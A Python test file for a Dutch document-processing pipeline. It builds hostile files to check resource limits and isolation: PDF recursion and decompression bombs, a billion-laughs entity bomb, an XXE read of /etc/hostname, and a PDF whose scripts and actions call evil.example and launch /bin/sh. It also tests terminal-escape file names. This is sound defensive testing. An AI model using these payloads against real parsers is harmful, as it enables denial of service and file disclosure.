"""Files made to harm whoever opens them: bounded time and memory, a row that says why, nothing asked of the network."""

from __future__ import annotations

import io
import json
import os
import socket
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pymupdf
import pytest
from typer.testing import CliRunner

from woo_gronden.cli.app import app
from woo_gronden.cli.console import shown
from woo_gronden.dataset import load_table
from woo_gronden.pipeline import Options
from woo_gronden.runners import run

# Bytes that a worker may take here: what is asked of an ordinary letter, and a little.
MEMORY = 1.5 * 2**30
TIMEOUT = 15.0


def _objects(*objects: bytes) -> bytes:
    """A PDF of these objects, numbered from 1, the first of them its root."""
    data, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    return data + b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        size, table, size, len(data),
    )  # fmt: skip


def _stream(keys: bytes, body: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (keys, len(body), body)


ROOT = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /A 5 0 R >> >> /Contents 4 0 R >>"
)


def pages_that_hold_themselves() -> bytes:
    return _objects(ROOT, b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 /Parent 2 0 R >>")


def form_that_draws_itself() -> bytes:
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /A 5 0 R >> >>"
    return _objects(ROOT, PAGES, PAGE, _stream(b"", b"/A Do"), _stream(form, b"/A Do /A Do"))


def forms_that_double() -> bytes:
    """Thirty forms, each drawing the next twice: a thousand million drawings in three kilobytes."""
    key = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /A %d 0 R >> >>"
    forms = [_stream(key % (6 + depth), b"/A Do /A Do") for depth in range(30)]
    last = _stream(b"/Type /XObject /Subtype /Form /BBox [0 0 595 842]", b"0 0 9 9 re f")
    return _objects(ROOT, PAGES, PAGE, _stream(b"", b"/A Do"), *forms, last)


def a_billion_pages() -> bytes:
    return _objects(ROOT, b"<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>", PAGE, _stream(b"", b""), b"null")


def page_of_a_light_year() -> bytes:
    page = PAGE.replace(b"[0 0 595 842]", b"[0 0 1e15 1e15]")
    return _objects(ROOT, PAGES, page, _stream(b"", b"0 0 9 9 re f"), b"null")


def image_of_a_gigapixel() -> bytes:
    rows = zlib.compress(bytes(40_000 * 40_000 // 8), 9)
    image = b"/Type /XObject /Subtype /Image /Width 40000 /Height 40000 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /FlateDecode"
    return _objects(ROOT, PAGES, PAGE, _stream(b"", b"500 0 0 700 40 40 cm /A Do"), _stream(image, rows))


def stream_that_unpacks_for_ever() -> bytes:
    body = zlib.compress(zlib.compress(b"0 0 1 1 re f\n" * 20_000_000, 9), 9)
    return _objects(ROOT, PAGES, PAGE, _stream(b"/Filter [/FlateDecode /FlateDecode]", body), b"null")


def script_and_links() -> bytes:
    """What runs at opening, asks the network for a page, a form and a file beside it."""
    root = (
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL('http://evil.example/js')) >> "
        b"/AcroForm << /XFA (<a xmlns='http://evil.example/xfa'/>) >> >>"
    )
    page = PAGE.replace(
        b"/Contents",
        b"/AA << /O << /S /SubmitForm /F (http://evil.example/form) >> >> /Annots [ "
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /URI /URI (http://evil.example/link) >> >> "
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /Launch /F (/bin/sh) >> >> ] /Contents",
    )
    image = b"/Type /XObject /Subtype /Image /Width 9 /Height 9 /F << /FS /URL /F (http://evil.example/image) >>"
    return _objects(root, PAGES, page, _stream(b"", b"99 0 0 99 0 0 cm /A Do"), _stream(image, b""))


def png_of_a_gigapixel() -> bytes:
    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(10_000_000))) + chunk(b"IEND", b"")


def _workbook(sheet: bytes, strings: bytes | None = None) -> bytes:
    book, made = openpyxl.Workbook(), io.BytesIO()
    book.active.append(["nummer", "titel"])  # type: ignore[union-attr]
    book.save(made)
    changed = io.BytesIO()
    with zipfile.ZipFile(made) as whole, zipfile.ZipFile(changed, "w", zipfile.ZIP_DEFLATED) as new:
        for name in whole.namelist():
            data = sheet if name == "xl/worksheets/sheet1.xml" else whole.read(name)
            new.writestr(name, strings if strings is not None and name == "xl/sharedStrings.xml" else data)
    return changed.getvalue()


SHEET = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>%s</sheetData></worksheet>'
LAUGHS = b'<!DOCTYPE x [<!ENTITY a0 "ha">%s]>' % b"".join(
    b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12)
)


def workbook_that_laughs() -> bytes:
    cell = b'<row r="1"><c r="A1" t="inlineStr"><is><t>&a11;</t></is></c></row>'
    return _workbook(LAUGHS + SHEET % cell)


def workbook_that_reads_files() -> bytes:
    entity = b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/hostname">]>'
    return _workbook(entity + SHEET % b'<row r="1"><c r="A1" t="inlineStr"><is><t>&f;</t></is></c></row>')


def workbook_with_one_far_cell() -> bytes:
    cells = b'<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return _workbook(SHEET % cells)


def sheet_that_repeats_for_ever() -> bytes:
    made = io.BytesIO()
    spaces = " ".join(f'xmlns:{n}="urn:oasis:names:tc:opendocument:xmlns:{n}:1.0"' for n in ("table", "office", "text"))
    row = '<table:table-row table:number-rows-repeated="2000000000"><table:table-cell table:number-columns-repeated="2000000000" table:number-rows-spanned="2000000000"><text:p>x</text:p></table:table-cell></table:table-row>'
    with zipfile.ZipFile(made, "w") as file:
        file.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        file.writestr("content.xml", f"<office:document-content {spaces}><table:table>{row}</table:table></office:document-content>")  # fmt: skip
    return made.getvalue()


FILES: dict[str, list[Callable[[], bytes]]] = {
    ".pdf": [
        pages_that_hold_themselves, form_that_draws_itself, forms_that_double, a_billion_pages, page_of_a_light_year,
        image_of_a_gigapixel, stream_that_unpacks_for_ever, script_and_links,
    ],
    ".png": [png_of_a_gigapixel],
    ".xlsx": [workbook_that_laughs, workbook_that_reads_files, workbook_with_one_far_cell],
    ".ods": [sheet_that_repeats_for_ever],
}  # fmt: skip


def test_each_costs_itself_alone(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    with pymupdf.open() as pdf:
        pdf.new_page().insert_text((72, 72), "Besluit op uw verzoek")
        pdf.save(corpus / "goed.pdf")
    for ending, makers in FILES.items():
        for make in makers:
            (corpus / f"{make.__name__}{ending}").write_bytes(make())
    run([corpus], tmp_path / "run", workers=2, timeout=TIMEOUT, memory=MEMORY)
    rows = {row["path"].partition("/")[2]: row for row in load_table(tmp_path / "run", "documents")}
    assert len(rows) == 1 + sum(map(len, FILES.values()))
    assert rows["goed.pdf"]["status"] == "ok"
    assert all(row["error"] for row in rows.values() if row["status"] != "ok")
    assert not [row for row in rows.values() if "internal error" in row["error"]]
    hostname = Path("/etc/hostname").read_text().strip() if Path("/etc/hostname").is_file() else ""
    assert not hostname or hostname not in repr(load_table(tmp_path / "run", "inventory"))


def test_no_network_is_asked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_args: object, **_named: object) -> None:
        raise AssertionError("something opened a connection")

    from woo_gronden.pipeline import read_source
    from woo_gronden.sources import SourceFile

    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    path = tmp_path / "script.pdf"
    path.write_bytes(script_and_links())
    assert read_source(SourceFile(path, "a", "a"), Options(ocr="never")).document.pages


def test_links_that_lead_nowhere_or_in_circles(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    (corpus / "a").mkdir(parents=True)
    (corpus / "a/kring").symlink_to(corpus)
    (corpus / "zelf.pdf").symlink_to("zelf.pdf")
    (corpus / "weg.pdf").symlink_to("bestaat-niet.pdf")
    (corpus / "eindeloos.pdf").symlink_to("/dev/zero")
    os.mkfifo(corpus / "pijp.pdf")
    (corpus / "a/lijst.csv").write_text("nummer;titel\n1;brief\n")
    run([corpus], tmp_path / "run", timeout=30)
    rows = {row["path"]: row for row in load_table(tmp_path / "run", "documents")}
    assert rows["corpus/a/lijst.csv"]["status"] == "ok"
    assert {path for path, row in rows.items() if row["status"] == "failed"} == {"corpus/zelf.pdf", "corpus/weg.pdf"}
    assert len(rows) == 3


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("\x1b[2Jweg.pdf", "\ufffd[2Jweg.pdf"),
        ("a\u202efdp.exe", "a\ufffdfdp.exe"),
        ("\x9b31mrood", "\ufffd31mrood"),
        ("bri\udcffef.pdf", "bri\ufffdef.pdf"),
        ("Besluit\tnr. 1\n", "Besluit\tnr. 1\n"),
        ("artikel 5.1, tweede lid, onder e – één", "artikel 5.1, tweede lid, onder e – één"),
    ],
)
def test_a_terminal_obeys_no_document(text: str, expected: str) -> None:
    assert shown(text) == expected


def test_names_and_titles_that_look_like_markup_are_shown_as_they_are(tmp_path: Path) -> None:
    corpus = tmp_path / "[corpus]"
    (corpus / "[").mkdir(parents=True)
    (corpus / "[b]lijst[_][bold].csv").write_text("nummer;titel;beoordeling\n1;[/red]brief \x1b[31m;openbaar\n")
    (corpus / "[/red]\x1b[2J.pdf").write_bytes(b"geen pdf")
    ran = CliRunner().invoke(app, ["run", str(corpus), "--output", str(tmp_path / "[run]"), "--workers", "1"])
    assert ran.exit_code == 0, ran.output
    for target in (tmp_path / "[run]", corpus / "[b]lijst[_][bold].csv"):
        told = CliRunner().invoke(app, ["show", str(target)])
        assert told.exit_code == 0, told.output
        assert "\x1b" not in told.output
    assert "\x1b" not in ran.output
    assert json.loads((tmp_path / "[run]/failures.jsonl").read_text())["path"].endswith("\x1b[2J.pdf")
